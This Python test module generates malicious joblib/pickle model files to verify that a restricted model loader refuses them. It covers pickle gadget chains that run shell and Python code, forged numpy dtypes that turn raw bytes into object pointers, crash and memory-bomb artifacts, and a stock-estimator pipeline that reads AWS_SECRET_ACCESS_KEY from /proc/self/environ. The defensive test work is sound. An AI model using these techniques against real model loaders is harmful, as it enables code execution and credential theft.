"""A corpus of malicious model artifacts, each a real joblib/pickle file.

Every payload tries to create its *marker* file; a loader is safe against it
if the marker never appears. :func:`build` writes one case into a directory
as ``model.joblib`` (plus any companion file the payload re-enters through),
so the same directory serves as a ``MODEL_DIR`` and as input to
``publisher.publish``.

Payloads are written with a tiny pickle assembler (``tests/pickle_asm.py``) so that
each names exactly the globals it means to, in the order it means to (the
gadget under test comes first, so it is the one the allowlist stops), or
with ``pickle``/``joblib.dump`` of objects whose ``__reduce__`` is the
payload, where the point is the container (a valid Pipeline, an object
array, joblib's legacy formats).

``python -m tests.malicious DIR`` writes the whole corpus under DIR.
"""
import os
import pickle
import struct
import sys

import joblib
import numpy as np

from tests.pickle_asm import (  # noqa: F401 (re-exported for the tests)
    Build, ByteArray, Call, G, Let, NewObj, Ref, SetItems, assemble)

# --------------------------------------------------------------------------
# Payload helpers.


def shell(marker):
    return "touch '%s'" % marker


def python(marker):
    return "open(%r, 'w').close()" % str(marker)


class Reduces:
    """An object whose pickle is ``func(*args)``; ``func`` is pickled by
    reference (``os.system`` as ``posix.system``, ``exec`` as
    ``builtins.exec``)."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def touch_object(marker):
    return Reduces(os.system, shell(marker))


def exec_object(marker):
    return Reduces(exec, python(marker))


def _fitted_pipeline():
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler
    X = np.array([[0.0, 1.0, 2.0, 3.0], [1.0, 0.0, 1.0, 0.0]] * 10)
    y = np.array([0, 1] * 10)
    return Pipeline([("scale", StandardScaler()),
                     ("classify", LogisticRegression())]).fit(X, y)


def _write(path, data):
    with open(path, "wb") as f:
        f.write(data)


def _malicious_npy(path, marker):
    """An .npy file holding an object array whose element runs the payload."""
    array = np.empty(1, dtype=object)
    array[0] = touch_object(marker)
    np.save(path, array, allow_pickle=True)


# --------------------------------------------------------------------------
# The cases. Each writes ``d/model.joblib`` (and companions in ``d``) and
# tries to create ``marker``.

CASES = {}


def case(name, refuses=None):
    """Register a builder; ``refuses`` is the global the allowlist should
    name in its refusal (None: a different refusal, said in the builder)."""
    def register(builder):
        CASES[name] = (builder, refuses)
        return builder
    return register


def _artifact(d):
    return os.path.join(d, "model.joblib")


@case("os.system", "os.system")
def _(d, marker):
    _write(_artifact(d), assemble(Call(G("os", "system"), shell(marker))))


@case("posix.system", "posix.system")
def _(d, marker):
    _write(_artifact(d), assemble(Call(G("posix", "system"), shell(marker))))


@case("os.system via pickle.dumps", "posix.system")
def _(d, marker):
    _write(_artifact(d), pickle.dumps(touch_object(marker)))


@case("builtins.eval", "builtins.eval")
def _(d, marker):
    _write(_artifact(d), assemble(Call(G("builtins", "eval"), python(marker))))


@case("builtins.exec", "builtins.exec")
def _(d, marker):
    _write(_artifact(d), assemble(Call(G("builtins", "exec"), python(marker))))


@case("__builtin__.eval (protocol 2 name mapping)", "builtins.eval")
def _(d, marker):
    _write(_artifact(d), assemble(Call(G("__builtin__", "eval"), python(marker)), protocol=2))


@case("builtins.compile + types.FunctionType", "types.FunctionType")
def _(d, marker):
    code = Call(G("builtins", "compile"), python(marker), "<artifact>", "exec")
    _write(_artifact(d), assemble(Call(Call(G("types", "FunctionType"), code, {}))))


@case("subprocess.Popen", "subprocess.Popen")
def _(d, marker):
    _write(_artifact(d), assemble(Call(G("subprocess", "Popen"), ["touch", str(marker)])))


@case("subprocess.check_output", "subprocess.check_output")
def _(d, marker):
    _write(_artifact(d), assemble(Call(G("subprocess", "check_output"), ["touch", str(marker)])))


@case("importlib.import_module + getattr", "importlib.import_module")
def _(d, marker):
    _write(_artifact(d), assemble(
        Let(0, Call(G("importlib", "import_module"), "os")),
        Call(Call(G("builtins", "getattr"), Ref(0), "system"), shell(marker))))


@case("builtins.__import__ + getattr", "builtins.__import__")
def _(d, marker):
    _write(_artifact(d), assemble(
        Let(0, Call(G("builtins", "__import__"), "os")),
        Call(Call(G("builtins", "getattr"), Ref(0), "system"), shell(marker))))


@case("builtins.getattr walking from an allowed class to os", "builtins.getattr")
def _(d, marker):
    # BaseEstimator.get_params.__globals__.get("inspect").os.system(cmd)
    def attr(obj, name):
        return Call(Ref(0), obj, name)
    init_globals = attr(attr(G("sklearn.base", "BaseEstimator"), "get_params"), "__globals__")
    inspect_module = Call(attr(init_globals, "get"), "inspect")
    _write(_artifact(d), assemble(
        Let(0, G("builtins", "getattr")),
        Call(attr(attr(inspect_module, "os"), "system"), shell(marker))))


@case("numpy.load(allow_pickle=True) of a second file", "numpy.load")
def _(d, marker):
    npy = os.path.join(d, "inner.npy")
    _malicious_npy(npy, marker)
    _write(_artifact(d), assemble(Call(G("numpy", "load"), npy, None, True)))


@case("numpy.lib._npyio_impl.load (numpy.load by its defining module)", "numpy.lib._npyio_impl.load")
def _(d, marker):
    npy = os.path.join(d, "inner.npy")
    _malicious_npy(npy, marker)
    _write(_artifact(d), assemble(Call(G("numpy.lib._npyio_impl", "load"), npy, None, True)))


@case("numpy.lib.format.read_array(allow_pickle=True)", "numpy.lib.format.read_array")
def _(d, marker):
    npy = os.path.join(d, "inner.npy")
    _malicious_npy(npy, marker)
    _write(_artifact(d), assemble(Call(G("numpy.lib.format", "read_array"),
                                       Call(G("io", "open"), npy, "rb"), True)))


@case("numpy.testing runstring (exec)", "numpy.testing._private.utils.runstring")
def _(d, marker):
    _write(_artifact(d), assemble(Call(G("numpy.testing._private.utils", "runstring"),
                                       python(marker), {})))


@case("sklearn.utils._testing script runner", "sklearn.utils._testing.assert_run_python_script_without_output")
def _(d, marker):
    _write(_artifact(d), assemble(Call(
        G("sklearn.utils._testing", "assert_run_python_script_without_output"), python(marker))))


@case("dotted name through sklearn.base (inspect.os.system)", "sklearn.base.inspect.os.system")
def _(d, marker):
    _write(_artifact(d), assemble(Call(G("sklearn.base", "inspect.os.system", stack=True),
                                       shell(marker))))


@case("pickle.loads of an inner pickle", "pickle.loads")
def _(d, marker):
    _write(_artifact(d), assemble(Call(G("pickle", "loads"), pickle.dumps(touch_object(marker)))))


@case("_pickle.loads of an inner pickle", "_pickle.loads")
def _(d, marker):
    _write(_artifact(d), assemble(Call(G("_pickle", "loads"), pickle.dumps(touch_object(marker)))))


@case("joblib.load of another file", "joblib.load")
def _(d, marker):
    inner = os.path.join(d, "inner.joblib")
    joblib.dump(touch_object(marker), inner)
    _write(_artifact(d), assemble(Call(G("joblib", "load"), inner)))


@case("joblib.numpy_pickle.load of another file", "joblib.numpy_pickle.load")
def _(d, marker):
    inner = os.path.join(d, "inner.joblib")
    joblib.dump(touch_object(marker), inner)
    _write(_artifact(d), assemble(Call(G("joblib.numpy_pickle", "load"), inner)))


@case("payload inside a fitted sklearn Pipeline", "builtins.exec")
def _(d, marker):
    pipeline = _fitted_pipeline()
    pipeline.steps[0][1].calibration_ = exec_object(marker)   # one attribute of one step
    joblib.dump(pipeline, _artifact(d))


@case("object array element (joblib's nested pickle)", "posix.system")
def _(d, marker):
    pipeline = _fitted_pipeline()
    elements = np.empty(3, dtype=object)
    elements[:] = ["a", touch_object(marker), "c"]
    pipeline.steps[1][1].classes_ = elements
    joblib.dump(pipeline, _artifact(d))


@case("joblib legacy NDArrayWrapper (numpy.load allow_pickle of a companion file)",
      "joblib.numpy_pickle_compat.NDArrayWrapper")
def _(d, marker):
    from joblib.numpy_pickle_compat import NDArrayWrapper
    _malicious_npy(os.path.join(d, "model.joblib_01.npy"), marker)
    _write(_artifact(d), pickle.dumps({"coef_": NDArrayWrapper("model.joblib_01.npy", np.ndarray)},
                                      protocol=2))


@case("joblib legacy NDArrayWrapper by its numpy_pickle alias", "joblib.numpy_pickle.NDArrayWrapper")
def _(d, marker):
    _malicious_npy(os.path.join(d, "model.joblib_01.npy"), marker)
    _write(_artifact(d), assemble(Build(Call(G("joblib.numpy_pickle", "NDArrayWrapper"),
                                             "model.joblib_01.npy", G("numpy", "ndarray")),
                                        {"allow_mmap": False})))


@case("joblib pre-0.10 'ZF' format (unrestricted ZipNumpyUnpickler)")
def _(d, marker):
    from joblib.numpy_pickle_compat import write_zfile
    with open(_artifact(d), "wb") as f:
        write_zfile(f, pickle.dumps(touch_object(marker)))


@case("operator.attrgetter over sys.modules", "operator.attrgetter")
def _(d, marker):
    _write(_artifact(d), assemble(
        Let(0, Call(G("operator", "attrgetter"), "system")),
        Let(1, Call(Call(G("operator", "itemgetter"), "os"), G("sys", "modules"))),
        Call(Call(Ref(0), Ref(1)), shell(marker))))


@case("operator.methodcaller over sys.modules", "operator.methodcaller")
def _(d, marker):
    _write(_artifact(d), assemble(
        Let(0, Call(G("operator", "methodcaller"), "system", shell(marker))),
        Call(Ref(0), Call(Call(G("operator", "itemgetter"), "os"), G("sys", "modules")))))


@case("functools.partial(os.system)", "os.system")
def _(d, marker):
    _write(_artifact(d), assemble(Call(Call(G("functools", "partial"), G("os", "system"),
                                            shell(marker)))))


@case("copyreg._reconstructor with an os-owned class (subprocess.Popen)", "copyreg._reconstructor")
def _(d, marker):
    _write(_artifact(d), assemble(Call(G("copyreg", "_reconstructor"), G("subprocess", "Popen"),
                                       G("subprocess", "Popen"), ["touch", str(marker)])))


# --------------------------------------------------------------------------
# Issue 10: techniques that use only allowlisted names. Each is generated
# here (never stored as a blob), refused at load (tests/test_hostile_artifacts.py
# runs each in a child process), and, where that is safe to show, proved
# real by a control under plain joblib.load (:func:`control`).
#
# TECHNIQUES[name] = (builder(d), expected refusal substring, control kind):
# control kinds: "result" (plain load returns the forged thing; the child
# prints FIRED), "crash" (plain load + predict dies of a signal), "hang"
# (still loading after a few seconds), "memory" (plain load fails under a
# 512 MiB address-space margin: it really asks for GiBs), None (no safe control).

TECHNIQUES = {}
SECRET = "Zq9x"        # planted as AWS_SECRET_ACCESS_KEY in the control's environment


def technique(name, refuses, control_kind):
    def register(builder):
        TECHNIQUES[name] = (builder, refuses, control_kind)
        return builder
    return register


def _dtype(typestr):
    return Call(G("numpy", "dtype"), typestr, False, True)


def _pending(state):
    return Build(Call(G("numpy._core.multiarray", "_reconstruct"), G("numpy", "ndarray"),
                      (0,), b"b"), state)


@technique("forged object dtype: raw bytes read as object pointers",
           "is not the canonical state of a O8 dtype", "result")
def _(d):
    # dtype('O') without its LIST_PICKLE flag: numpy then takes raw
    # bytes for the array data, and each 8 bytes become an object pointer.
    # The pointer written is id(True) in the process that builds the file
    # (the control builds and loads in one child); an attacker writes
    # pointers to memory it forged next (the code-execution chain).
    forged = Build(_dtype("O8"), (3, "|", None, None, None, -1, -1, 63 & ~2))  # no LIST_PICKLE
    _write(_artifact(d), assemble(_pending((1, (1,), forged, False,
                                            struct.pack("<Q", id(True)))), protocol=4))


def _secret_pipeline(d):
    """A stock-estimator pipeline that returns the first characters of
    AWS_SECRET_ACCESS_KEY from /proc/self/environ in a prediction."""
    from sklearn.compose import ColumnTransformer
    from sklearn.feature_extraction.text import CountVectorizer
    from sklearn.linear_model import LinearRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer
    chars = [chr(c) for c in range(33, 127)]
    train = []
    for i, c in enumerate(chars):      # files holding every character at every position
        path = os.path.join(d, "train%03d" % i)
        with open(path, "w") as f:
            f.write("AWS_SECRET_ACCESS_KEY=" + c * len(SECRET) + "\n")
        train.append([path])
    paths = np.array([["/proc/self/environ"]], dtype=object)
    constant = FunctionTransformer(np.positive, kw_args={"out": (paths,), "where": False,
                                                         "dtype": "O"},
                                   validate=False).fit(np.zeros((1, 1)))
    columns = ColumnTransformer([
        ("c%d" % k, CountVectorizer(input="filename", lowercase=False,
                                    token_pattern=r"(?s)AWS_SECRET_ACCESS_KEY=.{%d}(.)" % k), 0)
        for k in range(len(SECRET))]).fit(np.array(train, dtype=object))
    decode = LinearRegression()
    widths = [len(t.vocabulary_) for _, t, _ in columns.transformers_]
    decode.coef_ = np.zeros((len(SECRET), sum(widths)))
    offset = 0
    for k, (_, vectorizer, _) in enumerate(columns.transformers_):
        for token, j in vectorizer.vocabulary_.items():
            decode.coef_[k, offset + j] = ord(token)
        offset += widths[k]
    decode.intercept_ = np.zeros(len(SECRET))
    decode.n_features_in_ = sum(widths)
    for row in train:
        os.remove(row[0])
    return Pipeline([("constant", constant), ("read", columns), ("decode", decode)])


@technique("stock estimators read /proc/self/environ into a prediction",
           "model can read files or call functions", "result")
def _(d):
    joblib.dump(_secret_pipeline(d), _artifact(d))


@technique("ndarray over a bytearray that SETITEMS then shrinks",
           "not bytes (arrays over foreign buffers are not allowed)", None)
def _(d):
    size = 1 << 20
    _write(_artifact(d), assemble(
        Let(0, ByteArray(b"\x00" * size)),
        Let(1, _pending((1, (size,), _dtype("u1"), False, Ref(0)))),
        SetItems(Ref(0), (Call(G("builtins", "slice"), 0, size), b"")),
        Ref(1), protocol=5))


@technique("BUILD on an array that already has a view",
           "array from buffer", None)
def _(d):
    size = 1 << 20
    array = Call(G("numpy._core.multiarray", "_reconstruct"), G("numpy", "ndarray"), (0,), b"b")
    _write(_artifact(d), assemble(
        Let(0, Build(array, (1, (size,), _dtype("u1"), False, b"\x00" * size))),
        Let(1, Call(G("numpy._core.numeric", "_frombuffer"), Ref(0), _dtype("u1"), (size,), "C")),
        Build(Ref(0), (1, (1,), _dtype("u1"), False, b"\x00")),
        Ref(1), protocol=5))


@technique("dtype field at offset 2**40 written through SETITEMS",
           "is not the canonical state of a V8 dtype", "crash")
def _(d):
    far = Build(_dtype("V8"), (3, "|", None, ("a",), {"a": (_dtype("i8"), 2 ** 40)}, 8, 1, 16))
    _write(_artifact(d), assemble(
        Let(0, _pending((1, (1,), far, False, b"\x00" * 8))),
        SetItems(Ref(0), ("a", 1)), Ref(0)))


@technique("tree whose root's child index is 2**40", "child index is out of range", "crash")
def _(d):
    from sklearn.tree import DecisionTreeClassifier
    from sklearn.tree._tree import Tree
    X = np.array([[0.0, 1.0, 2.0, 3.0], [1.0, 0.0, 1.0, 0.0]] * 10)
    model = DecisionTreeClassifier(random_state=0).fit(X, [0, 1] * 10)
    state = model.tree_.__getstate__()
    nodes = state["nodes"].copy()
    nodes["left_child"][0] = 2 ** 40
    nodes["right_child"][0] = 2 ** 40
    state["nodes"] = nodes
    tree = Tree(model.tree_.n_features, np.array([2], dtype=np.intp), 1)
    tree.__setstate__(state)
    model.tree_ = tree
    joblib.dump(model, _artifact(d))


@technique("sparse coef_ with column index 2**31-1", "sparse matrix is malformed", "crash")
def _(d):
    import scipy.sparse
    from sklearn.linear_model import LogisticRegression
    X = np.array([[0.0, 1.0, 2.0, 3.0], [1.0, 0.0, 1.0, 0.0]] * 10)
    model = LogisticRegression().fit(X, [0, 1] * 10)
    coef = scipy.sparse.csr_matrix(model.coef_)
    coef.indices[0] = 2 ** 31 - 1
    model.coef_ = coef
    joblib.dump(model, _artifact(d))


@technique("bytearray(3 GiB) by its global", "builtins.bytearray", "memory")
def _(d):
    _write(_artifact(d), assemble(Call(G("builtins", "bytearray"), 3 << 30)))


@technique("BYTEARRAY8 announcing 3 GiB", "asks for a bytearray", "memory")
def _(d):
    announced = ByteArray(b"")
    announced.claimed = 3 << 30
    _write(_artifact(d), assemble(announced, protocol=5))


@technique("zlib bomb: a 1 GiB joblib array compressed about 1000 times",
           "past its load budget", "memory")
def _(d):
    import zlib
    rows, cols = 32768, 32768            # uint8: 1 GiB of zeros
    wrapper = Build(NewObj(G("joblib.numpy_pickle", "NumpyArrayWrapper")),
                    {"subclass": G("numpy", "ndarray"), "shape": (rows, cols), "order": "C",
                     "dtype": _dtype("u1"), "allow_mmap": False,
                     "numpy_array_alignment_bytes": 16})
    # joblib reads the array right after the wrapper's BUILD: one
    # padding-length byte (0 here), then the bytes; then the pickle resumes.
    header = assemble(wrapper)[:-1] + b"\x00"
    compressor = zlib.compressobj(9)
    chunk = bytes(1 << 24)
    with open(_artifact(d), "wb") as f:
        f.write(compressor.compress(header))
        for _ in range(rows * cols // len(chunk)):
            f.write(compressor.compress(chunk))
        f.write(compressor.compress(pickle.STOP))
        f.write(compressor.flush())


@technique("mean over a zero-stride 2**48-element view (hang)", "without constructor arguments",
           "hang")
def _(d):
    view = NewObj(G("numpy", "ndarray"), (2 ** 48,), _dtype("u1"), b"\x00", 0, (0,))
    _write(_artifact(d), assemble(Call(G("numpy", "mean"), view)))


@technique("n_features_in_ is an array", "n_features_in_ is a ndarray", None)
def _(d):
    from sklearn.linear_model import LogisticRegression
    X = np.array([[0.0, 1.0, 2.0, 3.0], [1.0, 0.0, 1.0, 0.0]] * 10)
    model = LogisticRegression().fit(X, [0, 1] * 10)
    model.n_features_in_ = np.array([4, 4])
    joblib.dump(model, _artifact(d))


@technique("classes_ is bytes", "classes_ is a bytes", None)
def _(d):
    from sklearn.linear_model import LogisticRegression
    X = np.array([[0.0, 1.0, 2.0, 3.0], [1.0, 0.0, 1.0, 0.0]] * 10)
    model = LogisticRegression().fit(X, [0, 1] * 10)
    model.classes_ = b"ab"
    joblib.dump(model, _artifact(d))


def write_card(d, n_features=4):
    """A card that matches the artifact in ``d`` (sha256, this runtime's
    versions): what publisher.publish would write, so only loading can stop it."""
    import json
    import platform
    import sklearn
    from chalicelib.schema.card import build_card, sha256_of
    card = build_card(
        name="suspect", version="1", task="classification",
        feature_names=["f%d" % i for i in range(n_features)], classes=None,
        accepts_missing=False, sha256=sha256_of(_artifact(d)),
        versions={"scikit-learn": sklearn.__version__, "numpy": np.__version__,
                  "joblib": joblib.__version__, "python": platform.python_version()},
        estimator="?", created_at="2026-01-01T00:00:00+00:00")
    with open(os.path.join(d, "model.json"), "w") as f:
        json.dump(card, f)


def build_technique(name, d):
    os.makedirs(d, exist_ok=True)
    TECHNIQUES[name][0](str(d))
    return _artifact(str(d))


def control(name, d):
    """Run technique ``name`` under plain joblib.load in this process (a
    child the test started): prints FIRED and what fired, dies, hangs, or
    raises MemoryError, per the technique's control kind."""
    import resource
    path = build_technique(name, d)
    kind = TECHNIQUES[name][2]
    if kind == "memory":
        with open("/proc/self/status") as f:
            vm = [int(line.split()[1]) * 1024 for line in f if line.startswith("VmSize:")][0]
        resource.setrlimit(resource.RLIMIT_AS, (vm + (512 << 20), resource.RLIM_INFINITY))
        try:
            joblib.load(path)
        except MemoryError:
            print("FIRED: MemoryError under a 512 MiB margin")
        return
    loaded = joblib.load(path)
    if name.startswith("forged object dtype"):
        print("FIRED: element is True: %s" % (loaded[0] is True))
    elif name.startswith("stock estimators"):
        codes = loaded.predict(np.zeros((1, 1)))[0]
        print("FIRED: %s" % "".join(chr(int(round(c))) for c in codes))
    else:                                 # crash kinds: the first request
        if isinstance(loaded, np.ndarray):
            loaded["a"] = 1
        else:
            loaded.predict(np.ones((1, 4)))
        print("survived")


# --------------------------------------------------------------------------


def build(name, d, marker):
    """Write case ``name`` into directory ``d``; return the artifact path."""
    os.makedirs(d, exist_ok=True)
    CASES[name][0](str(d), str(marker))
    return _artifact(str(d))


def build_all(root):
    """Write every case under ``root``; ``[(name, dir, marker, refuses)]``."""
    built = []
    for i, (name, (_, refuses)) in enumerate(CASES.items()):
        d = os.path.join(str(root), "case%02d" % i)
        marker = os.path.join(str(root), "marker%02d" % i)
        build(name, d, marker)
        built.append((name, d, marker, refuses))
    return built


if __name__ == "__main__":
    for name, d, marker, _ in build_all(sys.argv[1]):
        print("%s\t%s\t%s" % (d, marker, name))
